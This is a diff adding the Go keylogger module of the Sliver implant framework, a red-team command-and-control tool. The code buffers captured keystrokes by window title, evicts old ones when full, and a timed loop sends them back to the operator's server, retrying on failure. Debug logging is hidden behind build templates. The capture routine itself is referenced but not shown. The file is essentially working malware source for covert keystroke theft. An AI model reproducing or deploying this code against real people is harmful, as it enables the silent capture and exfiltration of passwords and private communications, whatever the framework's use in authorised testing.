@@ -0,0 +1,188 @@
+package keylogger
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"sync"
+	"time"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+const (
+	defaultBufferSize = 64 * 1024 // 64kb
+)
+
+var (
+	// ErrAlreadyRunning - The keylogger has already been started
+	ErrAlreadyRunning = errors.New("Keylogger is already running")
+	// ErrNotRunning - The keylogger has not been started
+	ErrNotRunning = errors.New("Keylogger is not running")
+
+	keylog = &buffer{mutex: &sync.Mutex{}, maxSize: defaultBufferSize}
+
+	runMutex = &sync.Mutex{}
+	running  = false
+	stop     chan bool
+)
+
+// FlushFunc - Sends flushed keystrokes back to the server, if an error is
+// returned the keystrokes are put back into the buffer
+type FlushFunc func(*sliverpb.Keylog) error
+
+// buffer - Bounded in-memory buffer of keystrokes, tagged by window
+type buffer struct {
+	mutex   *sync.Mutex
+	entries []*sliverpb.KeylogEntry
+	size    int
+	maxSize int
+	dropped uint32
+}
+
+func (b *buffer) record(window string, keys string) {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	if b.maxSize < len(keys) {
+		b.dropped += uint32(len(keys))
+		return
+	}
+	b.evict(len(keys))
+	b.size += len(keys)
+	if 0 < len(b.entries) && b.entries[len(b.entries)-1].Window == window {
+		b.entries[len(b.entries)-1].Keys += keys
+		return
+	}
+	b.entries = append(b.entries, &sliverpb.KeylogEntry{
+		Window:    window,
+		Keys:      keys,
+		Timestamp: time.Now().Unix(),
+	})
+}
+
+func (b *buffer) flush() ([]*sliverpb.KeylogEntry, uint32) {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	entries, dropped := b.entries, b.dropped
+	b.entries = []*sliverpb.KeylogEntry{}
+	b.size = 0
+	b.dropped = 0
+	return entries, dropped
+}
+
+// evict - Drop the oldest keystrokes until there is room for n more bytes
+func (b *buffer) evict(n int) {
+	for b.maxSize < b.size+n && 0 < len(b.entries) {
+		b.size -= len(b.entries[0].Keys)
+		b.dropped += uint32(len(b.entries[0].Keys))
+		b.entries = b.entries[1:]
+	}
+}
+
+// requeue - Put back keystrokes that could not be sent ahead of any newer ones
+func (b *buffer) requeue(entries []*sliverpb.KeylogEntry, dropped uint32) {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	b.entries = append(entries, b.entries...)
+	b.size = 0
+	for _, entry := range b.entries {
+		b.size += len(entry.Keys)
+	}
+	b.dropped += dropped
+	b.evict(0)
+}
+
+// Start - Start capturing keystrokes, keystrokes are periodically passed to
+// flushFunc if flushInterval is non-zero
+func Start(flushInterval time.Duration, bufferSize int, flushFunc FlushFunc) error {
+	runMutex.Lock()
+	defer runMutex.Unlock()
+	if running {
+		return ErrAlreadyRunning
+	}
+	if bufferSize <= 0 {
+		bufferSize = defaultBufferSize
+	}
+	keylog.mutex.Lock()
+	keylog.maxSize = bufferSize
+	keylog.mutex.Unlock()
+
+	stop = make(chan bool)
+	err := startCapture(stop)
+	if err != nil {
+		return err
+	}
+	running = true
+	if 0 < flushInterval {
+		go flushLoop(flushInterval, flushFunc, stop)
+	}
+	return nil
+}
+
+// Stop - Stop capturing keystrokes, buffered keystrokes are kept until flushed
+func Stop() error {
+	runMutex.Lock()
+	defer runMutex.Unlock()
+	if !running {
+		return ErrNotRunning
+	}
+	close(stop)
+	running = false
+	return nil
+}
+
+// IsRunning - Is the keylogger currently capturing keystrokes
+func IsRunning() bool {
+	runMutex.Lock()
+	defer runMutex.Unlock()
+	return running
+}
+
+// Flush - Return and clear the buffered keystrokes and the number of bytes
+// dropped since the last flush
+func Flush() ([]*sliverpb.KeylogEntry, uint32) {
+	return keylog.flush()
+}
+
+func flushLoop(flushInterval time.Duration, flushFunc FlushFunc, stop chan bool) {
+	ticker := time.NewTicker(flushInterval)
+	defer ticker.Stop()
+	for {
+		select {
+		case <-stop:
+			return
+		case <-ticker.C:
+			entries, dropped := keylog.flush()
+			if len(entries) == 0 && dropped == 0 {
+				continue
+			}
+			err := flushFunc(&sliverpb.Keylog{Entries: entries, Dropped: dropped})
+			if err != nil {
+				// {{if .Debug}}
+				log.Printf("[keylogger] flush failed %s", err)
+				// {{end}}
+				keylog.requeue(entries, dropped)
+			}
+		}
+	}
+}